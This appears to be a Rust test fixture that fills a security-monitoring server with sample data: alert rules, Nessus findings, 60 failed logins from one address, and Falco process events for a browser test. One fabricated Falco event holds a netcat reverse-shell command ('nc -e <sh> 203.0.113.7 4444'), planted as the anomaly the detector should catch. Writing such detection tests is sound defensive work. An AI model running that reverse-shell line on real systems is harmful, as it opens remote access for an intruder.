//! A server with something to see on every page, and a browser in front of it.

use std::time::Duration;

use lanner_deep::{Detector, Frame, Training};
use lanner_testkit::Browser;
use serde_json::{Value, json};

use crate::switching::{Running, start_with};

/// A server with something to see: two banks that fire, one that does not, and a switch.
pub(crate) async fn open() -> Running {
    let server = start_with(tempfile::tempdir().unwrap(), |_| ()).await;
    fill(&server).await;
    server
}

pub(crate) async fn fill(server: &Running) {
    server.put("block-all", json!({ "when": "bank == \"hsbc\"", "status": "inactive", "reason": "a <drill>", "owner": "payments" })).await;
    // An hour long, so that an alert lasts however long a browser takes to look at it.
    let rules = json!({ "rules": [
        { "id": "too-many", "query": { "stream": "payments", "measure": "count", "by": ["bank"] }, "window": "1h", "every": "1s", "absolute": { "max": 0 },
          "content": "{{ bank }}: <i>{{ value }}</i> payments", "labels": { "severity": "page" } },
        { "id": "quiet", "query": { "stream": "nothing", "measure": "count" }, "window": "1h", "absolute": { "max": 5 } },
    ] });
    server.fine("POST", "/api/v1/apply", rules).await;
    behave(server).await;
    scan(server).await;
    call(server).await;
    train(server).await;
    pay(server, "hsbc").await;
}

/// Two scans of two hosts: of the first one's findings one is gone in the second, and another is new.
async fn scan(server: &Running) {
    let now = server.fine("GET", "/api/v1/status", Value::Null).await["now"].as_str().unwrap().to_owned();
    let now_ms = lanner_core::time::parse_time_ms(&now).unwrap();
    let finding = |check: &str, host: &str, severity: &str, title: &str| {
        json!({ "scanner": "nessus", "check": check, "title": title, "host": { "target": host }, "port": 443, "protocol": "tcp",
            "rated": { "severity": severity, "source": "nessus" }, "ids": ["CVE-2021-44228"], "solution": "Update <it>." }).to_string()
    };
    let old = finding("1", "192.0.2.7", "critical", "Old <library>");
    let gone = finding("2", "192.0.2.7", "high", "Weak cipher");
    let fresh = finding("3", "192.0.2.8", "medium", "New hole");
    for (id, days, findings) in [("first", 40, [&old, &gone]), ("second", 1, [&old, &fresh])] {
        let scan = json!({ "scanner": "nessus", "at_ms": now_ms - days * 86_400_000, "complete": true, "hosts": [{ "id": "192.0.2.7" }, { "id": "192.0.2.8" }] });
        let new = json!({ "id": id, "scan": scan, "ran": ["1", "2", "3"] });
        server.fine("POST", "/api/v1/findings/scans", new).await;
        let lines = format!("{}\n{}", findings[0], findings[1]);
        server.text(&format!("/api/v1/findings/scans/{id}"), lines).await;
        server.fine("POST", &format!("/api/v1/findings/scans/{id}/end"), json!({})).await;
    }
}

/// A client that guesses passwords, among others.
async fn call(server: &Running) {
    let processor =
        json!({ "id": "api", "stream": "access", "sessions": { "by": ["client"], "idle": "30m" } });
    server.fine("POST", "/api/v1/apply", json!({ "processors": [processor] })).await;
    let attempt = |n: usize| {
        json!({ "client": "203.0.113.7", "method": "POST", "path": "/login", "status": 401, "user": format!("u{n}") }).to_string()
    };
    let lines: Vec<String> = (0..60).map(attempt).collect();
    server.text("/api/v1/events/access", lines.join("\n")).await;
}

/// Programs on a host: cron's for a day, a new version of its image, and one that nobody knows.
async fn behave(server: &Running) {
    let profile = json!({ "fields": ["proc.exepath", "proc.pname"], "where": "evt.type in (execve)", "learn": "1h", "memory": 1 });
    let processor = json!({ "id": "usual", "stream": "falco", "profile": profile });
    server.fine("POST", "/api/v1/apply", json!({ "processors": [processor] })).await;
    let now = server.fine("GET", "/api/v1/status", Value::Null).await["now"].as_str().unwrap().to_owned();
    let now_ms = lanner_core::time::parse_time_ms(&now).unwrap();
    let event = |minutes: i64, parents: &[&str], line: &str| {
        let fields = json!({
            "evt.type": "execve", "proc.name": line.split(' ').next(), "proc.exepath": format!("/usr/bin/{}", line.split(' ').next().unwrap()),
            "proc.cmdline": line, "proc.pname": parents[0], "proc.aname": parents,
        });
        json!({ "time": now_ms - minutes * 60_000, "hostname": "web-7", "rule": "started", "output_fields": fields }).to_string()
    };
    let mut events: Vec<String> =
        (0..120).rev().map(|at| event(10 + at * 10, &["cron", "systemd"], "backup --run")).collect();
    events.push(event(3, &["nginx", "systemd"], "nc -e <sh> 203.0.113.7 4444"));
    server.text("/api/v1/events/falco", events.join("\n")).await;
}

/// Two detectors of one name, of which one scores, and a rule that asks it.
async fn train(server: &Running) {
    let wave = |i: u16| (f32::from(i) / 10.0).sin();
    for seed in [1, 2] {
        let values = (0..400).flat_map(|i| [wave(i), 5.0 * wave(i) + f32::from(i * 31 % 7) / 70.0]).collect();
        let frame = Frame::new(vec!["requests".to_owned(), "cpu".to_owned()], values).unwrap();
        let training = Training { seed, window: Some(5 + seed as usize), ..Training::default() };
        let detector = Detector::train(&frame, &training, &mut |_| ()).unwrap();
        let bytes = detector.with_notes(json!({ "name": "web", "step_ms": 60_000 })).to_bytes();
        let kept = server.http.post(format!("{}/api/v1/models", server.url)).body(bytes);
        let kept = match server.tokens.values().next() {
            Some(token) => kept.bearer_auth(token),
            None => kept,
        };
        let kept: Value = kept.send().await.unwrap().json().await.unwrap();
        if seed == 1 {
            let path = format!("/api/v1/models/{}/promote", kept["id"].as_str().unwrap());
            server.fine("POST", &path, json!({ "to": "champion" })).await;
        }
    }
    let columns = json!({ "requests": { "stream": "payments", "measure": "count" }, "cpu": { "series": "cpu", "measure": "avg" } });
    let rule = json!({ "id": "odd-load", "query": { "model": "web", "columns": columns }, "window": "1m", "absolute": { "max": 1 } });
    server.fine("POST", "/api/v1/apply", json!({ "rules": [rule] })).await;
}

/// Has alerts fire: payments that are counted in the next window.
pub(crate) async fn pay(server: &Running, bank: &str) {
    for _ in 0..100 {
        let event = json!({ "bank": bank, "status": "fail" }).to_string();
        server.text("/api/v1/events/payments", event).await;
        let alerts = server.fine("GET", "/api/v1/alerts?state=firing", Value::Null).await;
        if alerts.as_array().unwrap().iter().any(|alert| alert["group"]["bank"] == bank) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    panic!("no alert of {bank}");
}

/// Does what a person does, beside the server.
pub(crate) async fn browse<T: Send + 'static>(
    server: &Running,
    act: impl FnOnce(&mut Browser, &str) -> T + Send + 'static,
) -> Option<T> {
    let (url, folder) = (server.url.clone(), tempfile::tempdir().unwrap());
    let act = move || {
        let mut browser = Browser::start(folder.path())?;
        browser.resize(1440, 900);
        Some(act(&mut browser, &url))
    };
    tokio::task::spawn_blocking(act).await.unwrap()
}

/// The status, the headers and the text of a page, asked without a browser.
pub(crate) async fn get(server: &Running, path: &str) -> (u16, reqwest::header::HeaderMap, String) {
    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let response = http.get(format!("{}{path}", server.url)).send().await.unwrap();
    (response.status().as_u16(), response.headers().clone(), response.text().await.unwrap())
}

/// A form as a browser sends it; the status.
pub(crate) async fn send(
    server: &Running,
    path: &str,
    headers: &[(&str, &str)],
    body: String,
) -> (u16, String) {
    let http = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let mut request = http
        .post(format!("{}{path}", server.url))
        .header("content-type", "application/x-www-form-urlencoded");
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let response = request.body(body).send().await.unwrap();
    (response.status().as_u16(), response.text().await.unwrap())
}
